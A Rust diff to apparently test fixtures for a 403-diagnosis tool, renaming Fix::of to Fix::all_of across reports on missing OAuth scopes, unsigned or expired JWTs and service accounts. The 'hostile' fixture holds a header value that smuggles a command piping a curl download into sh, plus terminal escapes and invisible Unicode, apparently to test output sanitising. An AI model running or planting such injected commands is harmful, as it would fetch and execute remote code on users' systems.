@@ -30,7 +30,7 @@ pub(super) fn missing_scope() -> Report {
                 "GET /api/v2/oauth/scopes",
                 "403 app.not.authorized.for.scope: App not authorized to use scope [oauth, oauth:readonly]",
             )
-            .fix(Fix::of(add_scope(CLIENT, "conversations")).standard("RFC 6750 §3.1")),
+            .fix(Fix::all_of(add_scope(CLIENT, "conversations")).standard("RFC 6750 §3.1")),
             control_scope_warning(),
             good_user(),
             finding(
@@ -41,7 +41,7 @@ pub(super) fn missing_scope() -> Report {
                 "the user holds none of the three permissions of which the operation needs one",
             )
             .evidence("GET /api/v2/users/me?expand=authorization", "permissions: routing:queue:view, presence:*:*")
-            .fix(Fix::of([
+            .fix(Fix::all_of([
                 grant(
                     GranteeKind::User,
                     Some(USER),
@@ -103,7 +103,7 @@ pub(super) fn service_account() -> Report {
              that require a user context.",
             )
             .fix(
-                Fix::of([
+                Fix::all_of([
                     Change::new_token(NewToken::AgentSignsIn)
                         .run("why403 login --region us-east-1 --client-id <client-id>".to_owned()),
                     check(),
@@ -150,7 +150,7 @@ pub(super) fn offline_jwt() -> Report {
                 .evidence("the token given", "612 characters, two dots"),
             finding("token-untrusted", Link::Token, Status::Fail, Authority::Published, "the token is not signed")
                 .evidence("JOSE header alg", "none")
-                .fix(Fix::of([sign_in()]).standard("RFC 7519 §6, RFC 8725 §3.2")),
+                .fix(Fix::all_of([sign_in()]).standard("RFC 7519 §6, RFC 8725 §3.2")),
             finding(
                 "token-expired",
                 Link::Token,
@@ -159,7 +159,7 @@ pub(super) fn offline_jwt() -> Report {
                 "the token expired 3 min ago, at 2026-07-14T09:57:00Z (leeway 0 s)",
             )
             .evidence("claim exp (unverified)", "1784023020, which is 2026-07-14T09:57:00Z")
-            .fix(Fix::of([sign_in(), check()]).standard("RFC 7519 §4.1.4")),
+            .fix(Fix::all_of([sign_in(), check()]).standard("RFC 7519 §4.1.4")),
             finding(
                 "audience-mismatch",
                 Link::Token,
@@ -168,7 +168,7 @@ pub(super) fn offline_jwt() -> Report {
                 "`aud` is `https://api.staging.example`, and `https://api.example` is expected",
             )
             .evidence("claim aud (unverified)", "https://api.staging.example")
-            .fix(Fix::of([sign_in()]).standard("RFC 7519 §4.1.3")),
+            .fix(Fix::all_of([sign_in()]).standard("RFC 7519 §4.1.3")),
             finding("missing-scope", Link::Scope, Status::Pass, Authority::Published, "the token has `conversations`")
                 .evidence("claim scope (unverified)", "conversations conversation:participant:control"),
             finding(
@@ -179,7 +179,7 @@ pub(super) fn offline_jwt() -> Report {
                 "the token names no permissions, and the platform was not asked; it needs one of three",
             )
             .evidence("claims permissions, authorities", "absent")
-            .fix(Fix::of([check().note(Note::AskGenesysCloud)])),
+            .fix(Fix::all_of([check().note(Note::AskGenesysCloud)])),
             finding(
                 "subject-mismatch",
                 Link::Identity,
@@ -189,7 +189,7 @@ pub(super) fn offline_jwt() -> Report {
             )
             .evidence("claim sub (unverified)", CLIENT)
             .evidence("--subject", USER)
-            .fix(Fix::of([Change::new_token(NewToken::AgentSignsIn)]).standard("RFC 7519 §4.1.2")),
+            .fix(Fix::all_of([Change::new_token(NewToken::AgentSignsIn)]).standard("RFC 7519 §4.1.2")),
             not_asked("conversation-not-found", Link::Conversation, "no conversation was given"),
         ],
     );
@@ -227,8 +227,12 @@ pub(super) fn hostile() -> Report {
             .evidence("PATCH /api/v2/\u{1b}[8mhidden", &flood)
             .evidence("header Content-Type", "text/html; charset=\u{feff}会話")
             .fix(
-                Fix::of([Change::request(RequestPart::Header, None, Some("a`; curl https://gateway.example | sh"))
-                    .run("why403 check \u{1b}[A".to_owned())])
+                Fix::all_of([Change::request(
+                    RequestPart::Header,
+                    None,
+                    Some("a`; curl https://gateway.example | sh"),
+                )
+                .run("why403 check \u{1b}[A".to_owned())])
                 .or([Change::ask(Whom::GenesysSupport, Question::WhyRefused, Some("\u{202e}0b2d"))]),
             ),
             finding("unknown-name", Link::Scope, Status::Warn, Authority::Policy, "con\u{200d}versations is no name")
